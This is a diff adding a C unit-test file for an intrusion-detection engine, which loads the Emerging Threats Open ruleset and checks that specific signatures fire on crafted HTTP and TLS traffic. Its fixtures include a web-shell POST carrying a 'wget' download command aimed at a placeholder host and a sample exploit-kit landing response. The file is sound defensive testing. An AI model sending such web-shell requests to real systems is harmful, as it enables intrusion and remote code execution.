@@ -1,0 +1,233 @@
+// SPDX-License-Identifier: GPL-2.0
+/*
+ * The Emerging Threats Open ruleset (../shared/data/et-open, beside the
+ * repository): all of it must parse and compile, at least 75% of the
+ * enabled rules must load (with --pcre=prefilter), the image must stay
+ * under 64 MB, and real rules must fire on traffic made for them while
+ * the whole set is loaded.
+ */
+#include <dirent.h>
+#include <time.h>
+
+#include "engine_harness.h"
+
+static struct et T;		/* the whole ruleset, prefilter mode */
+static bool loaded;
+
+static int load_dir(struct rp_set *s, const char *dir)
+{
+	char path[4096], err[512];
+	struct dirent **names;
+	int n, i, files = 0;
+
+	n = scandir(dir, &names, NULL, alphasort);
+	if (n < 0)
+		return -1;
+	snprintf(path, sizeof(path), "%s/classification.config", dir);
+	ck_assert_msg(rp_load_classification(s, path, err, sizeof(err)) == 0, "%s", err);
+	for (i = 0; i < n; i++) {
+		size_t l = strlen(names[i]->d_name);
+
+		if (l > 6 && !strcmp(names[i]->d_name + l - 6, ".rules")) {
+			snprintf(path, sizeof(path), "%s/%s", dir, names[i]->d_name);
+			ck_assert_msg(rp_parse_file(s, path, err, sizeof(err)) == 0, "%s", err);
+			files++;
+		}
+		free(names[i]);
+	}
+	free(names);
+	return files;
+}
+
+static double ms_now(void)
+{
+	struct timespec ts;
+
+	clock_gettime(CLOCK_MONOTONIC, &ts);
+	return (double)ts.tv_sec * 1e3 + (double)ts.tv_nsec / 1e6;
+}
+
+static void load_all(void)
+{
+	char err[512];
+	struct rc_stats st;
+	double t0;
+	int files;
+
+	if (loaded)
+		return;
+	memset(&T, 0, sizeof(T));
+	rp_set_init(&T.set);
+	T.set.pcre = RP_PCRE_PREFILTER;
+	t0 = ms_now();
+	files = load_dir(&T.set, et_open_dir());
+	ck_assert_msg(files > 40, "ET Open not found at %s (set TLSI_ET_OPEN)", et_open_dir());
+	ck_assert_msg(rc_compile(&T.set, &T.img, &T.len, &st, err, sizeof(err)) == 0, "%s", err);
+	printf("ET Open, pcre prefilter: %zu enabled, %zu loaded (%.1f%%), image %zu bytes, "
+	       "%u patterns, %u states, %.0f ms\n", T.set.enabled, T.set.nrules,
+	       100.0 * (double)T.set.nrules / (double)T.set.enabled, T.len, st.patterns,
+	       st.states, ms_now() - t0);
+	ck_assert_msg(tlsi_eng_init(&T.eng, T.img, T.len, err, sizeof(err)) == 0, "%s", err);
+	T.eng.thresh = T.thresh;
+	T.eng.nthresh = 256;
+	T.s = calloc(1, tlsi_eng_scratch_size(&T.eng));
+	T.f = calloc(1, sizeof(*T.f));
+	T.cfg.alert = et_on_alert;
+	T.cfg.event = et_on_event;
+	T.cfg.arg = &T;
+	T.ctx.eng = &T.eng;
+	T.ctx.s = T.s;
+	T.ctx.cfg = &T.cfg;
+	loaded = true;
+}
+
+START_TEST(test_load_ratio)
+{
+	struct rp_set s;
+	double ratio;
+	size_t i, reasons = 0;
+
+	load_all();
+	ratio = (double)T.set.nrules / (double)T.set.enabled;
+	ck_assert_msg(T.set.enabled > 20000, "only %zu enabled rules", T.set.enabled);
+	ck_assert_msg(ratio >= 0.75, "%.1f%% of the enabled rules loaded", 100 * ratio);
+	ck_assert_uint_eq(T.set.nrules + T.set.skipped, T.set.enabled);
+	for (i = 0; i < T.set.nskips; i++)
+		reasons += T.set.skips[i].count;
+	ck_assert_uint_eq(reasons, T.set.skipped);
+	ck_assert_msg(T.len <= 64u << 20, "image of %zu bytes", T.len);
+
+	/* default mode: pcre rules skipped, everything else the same */
+	rp_set_init(&s);
+	load_dir(&s, et_open_dir());
+	printf("ET Open, pcre skipped: %zu of %zu loaded (%.1f%%)\n", s.nrules, s.enabled,
+	       100.0 * (double)s.nrules / (double)s.enabled);
+	ck_assert_uint_eq(s.enabled, T.set.enabled);
+	ck_assert_msg((double)s.nrules / (double)s.enabled >= 0.60, "default mode: %zu", s.nrules);
+	rp_set_free(&s);
+}
+END_TEST
+
+static void flow4(const uint8_t c[4], uint16_t cport, const uint8_t s[4], uint16_t sport)
+{
+	uint8_t ca[16], sa[16];
+
+	tlsi_eng_addr4(ca, c);
+	tlsi_eng_addr4(sa, s);
+	tlsi_eng_flow_init(T.f, ca, cport, sa, sport);
+	T.nalerts = 0;
+	T.events = 0;
+}
+
+static const uint8_t home[4] = { 192, 168, 1, 20 }, ext[4] = { 203, 0, 113, 9 };
+
+START_TEST(test_real_rules_fire)
+{
+	struct tlsi_eng_tls_info ti = { 0 };
+
+	load_all();
+	/* GPL WEB_SERVER perl post attempt: EXTERNAL -> HOME */
+	flow4(ext, 51000, home, 80);
+	et_req(&T, "POST /perl/test.pl HTTP/1.1\r\nHost: intranet\r\nContent-Length: 3\r\n\r\nx=1");
+	ET_FIRED(&T, 2101979);
+	/* ET WEB_SERVER WebShell Generic - wget http - POST */
+	flow4(ext, 51001, home, 8080);
+	et_req(&T, "POST /shell.php HTTP/1.1\r\nHost: intranet\r\nContent-Length: 33\r\n\r\n"
+		   "cmd=wget%20http://x.example/a.sh");
+	ET_FIRED(&T, 2016683);
+	/* the same request, body split in odd places */
+	flow4(ext, 51002, home, 80);
+	et_sendc(&T, TLSI_DIR_TO_SERVER, "POST /shell.php HTTP/1.1\r\nHost: intranet\r\n"
+		 "Content-Length: 33\r\n\r\ncmd=wget%20http://x.example/a.sh", 3);
+	ET_FIRED(&T, 2016683);
+	/* ET USER_AGENTS Microsoft Dr Watson User-Agent (MSDW): HOME -> EXTERNAL */
+	flow4(home, 40001, ext, 80);
+	et_req(&T, "GET /report HTTP/1.1\r\nUser-Agent: MSDW\r\nHost: watson.microsoft.com\r\n\r\n");
+	ET_FIRED(&T, 2027389);
+	flow4(home, 40002, ext, 80);
+	et_req(&T, "GET /report HTTP/1.1\r\nUser-Agent: MSDWX\r\nHost: x\r\n\r\n");
+	ET_SILENT(&T, 2027389);	/* isdataat:!1,relative */
+	/* ET ADWARE_PUP Win32/Foniad domain in TLS SNI (endswith) */
+	flow4(home, 40003, ext, 443);
+	ti.sni = (const uint8_t *)"cdn.maraukog.info";
+	ti.sni_len = 17;
+	tlsi_eng_tls(&T.ctx, T.f, &ti);
+	ET_FIRED(&T, 2025487);
+	flow4(home, 40004, ext, 443);
+	ti.sni = (const uint8_t *)"maraukog.info.example";
+	ti.sni_len = 21;
+	tlsi_eng_tls(&T.ctx, T.f, &ti);
+	ET_SILENT(&T, 2025487);
+	/* ET EXPLOIT_KIT Sakura applet: file.data, response from EXTERNAL */
+	flow4(home, 40005, ext, 80);
+	et_req(&T, "GET /index.php HTTP/1.1\r\nHost: ek.example\r\n\r\n");
+	et_resp(&T, "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nTransfer-Encoding: chunked\r\n\r\n"
+		    "20\r\n<html><body><applet code=\"x\" ar\r\n"
+		    "30\r\nchive=\"y\"><param name=\"u\" value=\"nzzv@55abcdef\">\r\n0\r\n\r\n");
+	ET_FIRED(&T, 2015735);
+	{
+		size_t b;
+
+		for (b = 0; b < T.set.nflowbits; b++)
+			if (!strcmp(T.set.flowbits[b], "et.exploitkitlanding"))
+				break;
+		ck_assert_uint_lt(b, T.set.nflowbits);
+		ck_assert(T.f->flowbits[b / 8] & (1u << (b % 8)));	/* flowbits:set */
+	}
+}
+END_TEST
+
+START_TEST(test_benign_browsing)
+{
+	unsigned int i;
+
+	load_all();
+	/* ordinary browsing of an internal site must not trip drop or
+	 * high-priority rules */
+	flow4(home, 40100, ext, 80);
+	et_req(&T, "GET /index.html HTTP/1.1\r\nHost: www.example.com\r\n"
+		   "User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0\r\n"
+		   "Accept: text/html,application/xhtml+xml\r\nAccept-Language: en-US,en;q=0.5\r\n"
+		   "Accept-Encoding: gzip, deflate\r\nConnection: keep-alive\r\n\r\n");
+	et_resp(&T, "HTTP/1.1 200 OK\r\nServer: nginx\r\nContent-Type: text/html; charset=utf-8\r\n"
+		    "Content-Length: 64\r\n\r\n<!doctype html><html><head><title>Hi</title></head></html>\n");
+	for (i = 0; i < T.nalerts; i++) {
+		uint32_t k;
+
+		for (k = 0; k < T.eng.nrules; k++)
+			if (T.eng.rules[k].sid == T.alerts[i])
+				break;
+		ck_assert_msg(k < T.eng.nrules && T.eng.rules[k].priority > 1,
+			      "benign page hit sid %u", T.alerts[i]);
+	}
+	ck_assert_int_ne(T.f->verdict, TLSI_ENG_V_DROP);
+}
+END_TEST
+
+Suite *engine_et_suite(void)
+{
+	Suite *s = suite_create("engine-et-open");
+	TCase *tc = tcase_create("et-open");
+
+	tcase_set_timeout(tc, 60);
+	tcase_add_test(tc, test_load_ratio);
+	tcase_add_test(tc, test_real_rules_fire);
+	tcase_add_test(tc, test_benign_browsing);
+	suite_add_tcase(s, tc);
+	return s;
+}
+
+int main(void)
+{
+	SRunner *sr = srunner_create(engine_et_suite());
+	int failed;
+
+	/* one load of the ruleset for all tests */
+	srunner_set_fork_status(sr, CK_NOFORK);
+	srunner_run_all(sr, CK_NORMAL);
+	failed = srunner_ntests_failed(sr);
+	srunner_free(sr);
+	if (loaded)
+		et_free(&T);
+	return failed ? EXIT_FAILURE : EXIT_SUCCESS;
+}
